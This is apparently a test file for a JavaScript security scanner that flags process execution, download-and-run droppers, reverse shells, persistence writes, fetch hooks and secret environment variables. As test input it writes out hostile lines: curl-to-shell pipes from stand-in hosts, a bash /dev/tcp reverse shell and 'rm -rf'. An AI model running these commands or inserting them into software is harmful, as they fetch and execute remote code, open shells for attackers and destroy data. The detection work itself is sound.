import {
  commandProgram,
  dropperSignal,
  persistenceKindOf,
} from '../../src/analysis/capabilities.js'
import { collectFacts } from '../../src/analysis/facts.js'
import { isSecretEnvName } from '../../src/analysis/knowledge.js'

test('records the commands a file runs, folded, however child_process is reached', () => {
  const facts = collectFacts(
    'x.js',
    [
      "const child_process_1 = require('child_process');",
      "(0, child_process_1.exec)('curl -s ' + 'https://get.evil.example | sh')",
      "import { spawn as run } from 'node:child_process'",
      "run('git', ['log', '--oneline'])",
      "require('child_process').execSync(`rm -rf ${dir}`)",
      'cp.execFileSync(tool, args)',
      'run(cmd, args)',
    ].join('\n'),
  )
  expect(facts.execs.map((e) => [e.via, e.command, e.line])).toEqual([
    ['child_process.exec', 'curl -s https://get.evil.example | sh', 2],
    ['child_process.spawn', 'git log --oneline', 4],
    ['child_process.execSync', 'rm -rf …', 5],
    ['execFileSync', null, 6],
    ['child_process.spawn', null, 7],
  ])
})

test('does not take a regular expression or a method of another object for process execution', () => {
  const facts = collectFacts('x.js', "/a/.exec('curl x | sh')\nredis.exec()\nserver.spawn('bash')")
  expect(facts.execs).toEqual([])
})

test('names programs and recognises droppers and remote shells', () => {
  expect(commandProgram('/usr/bin/Git.exe status')).toBe('git')
  expect(commandProgram('… --version')).toBeNull()
  expect(dropperSignal('curl -fsSL https://x.example/i.sh | bash')?.kind).toBe('download-and-run')
  expect(dropperSignal('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')?.kind).toBe('remote-shell')
  expect(dropperSignal('powershell -enc SQBFAFgA')?.kind).toBe('remote-shell')
  expect(dropperSignal('/bin/sh')?.kind).toBe('interactive-shell')
  expect(dropperSignal('curl -s https://api.example.com -o out.json')).toBeNull()
  expect(dropperSignal('bash -c "npm run build"')).toBeNull()
  expect(dropperSignal('sh …')).toBeNull()
})

test('classifies writes to places where code runs later', () => {
  expect(persistenceKindOf('~/.bashrc')).toBe('shell-profile')
  expect(
    persistenceKindOf('C:\\Users\\x\\Documents\\PowerShell\\Microsoft.PowerShell_profile.ps1'),
  ).toBe('shell-profile')
  expect(persistenceKindOf('.github/workflows/x.yml')).toBe('ci-workflow')
  expect(persistenceKindOf('…/node_modules/lodash/index.js')).toBe('other-package')
  expect(persistenceKindOf('~/Library/LaunchAgents/x.plist')).toBe('startup')
  expect(persistenceKindOf('~/.cursor/mcp.json')).toBe('agent-config')
  expect(persistenceKindOf('node_modules/.cache/x.json')).toBeNull()
  expect(persistenceKindOf('docs/.profile.md')).toBeNull()
  expect(persistenceKindOf('~/.config/app/settings.json')).toBeNull()
})

test('records writes with their folded destination', () => {
  const facts = collectFacts(
    'w.js',
    [
      "import fs from 'node:fs'",
      "import { homedir } from 'node:os'",
      "import { join } from 'node:path'",
      "fs.appendFileSync(join(homedir(), '.zshrc'), 'x')",
      "fs.writeFileSync(join(homedir(), '.config', 'x.json'), 'y')",
    ].join('\n'),
  )
  expect(facts.writes.map((w) => [w.kind, w.path, w.line])).toEqual([
    ['shell-profile', '~/.zshrc', 4],
  ])
})

test('records hooks on globals, and tells a wrapper from a polyfill', () => {
  const facts = collectFacts(
    'h.js',
    [
      "import nodeFetch from 'node-fetch'",
      "import Module from 'node:module'",
      "import https from 'node:https'",
      'if (!globalThis.fetch) globalThis.fetch = nodeFetch',
      'const orig = window.fetch.bind(window)',
      'window.fetch = (u, o) => orig(u, o)',
      'XMLHttpRequest.prototype.open = function () {}',
      'Module._load = function () {}',
      'https.request = () => null',
      "Object.defineProperty(globalThis, 'WebSocket', { value: 1 })",
      "process.binding('spawn_sync')",
      'console.log = console.error',
      'function f() { let fetch; fetch = 1 }',
    ].join('\n'),
  )
  expect(facts.hooks.map((h) => [h.target, h.wraps, h.line])).toEqual([
    ['window.fetch', true, 6],
    ['XMLHttpRequest.prototype.open', false, 7],
    ['Module._load', false, 8],
    ['https.request', false, 9],
    ['globalThis.WebSocket', true, 10],
    ['process.binding', true, 11],
  ])
})

test('records secret-looking environment variables, not settings', () => {
  const facts = collectFacts(
    'e.js',
    "const { GITHUB_TOKEN, PORT } = process.env\nconst k = process.env['OPENAI_API_KEY']\nconst t = process.env.AUTH_TOKEN_TTL_MS",
  )
  expect(facts.secretEnv.map((s) => [s.name, s.line])).toEqual([
    ['GITHUB_TOKEN', 1],
    ['OPENAI_API_KEY', 2],
  ])
  expect(isSecretEnvName('AWS_SECRET_ACCESS_KEY')).toBe(true)
  expect(isSecretEnvName('DB_PASSWORD')).toBe(true)
  expect(isSecretEnvName('AUTHOR_NAME')).toBe(false)
  expect(isSecretEnvName('LOG_LEVEL')).toBe(false)
})

test('does not count type-only imports or short constant code as capabilities', () => {
  const facts = collectFacts(
    't.ts',
    "import type { Server } from 'http'\nimport { type Socket } from 'net'\nconst g = Function('return this')()\neval('1 + 1')",
  )
  expect(facts.modules).toEqual([])
  expect(facts.dynamicCode).toEqual([])
})
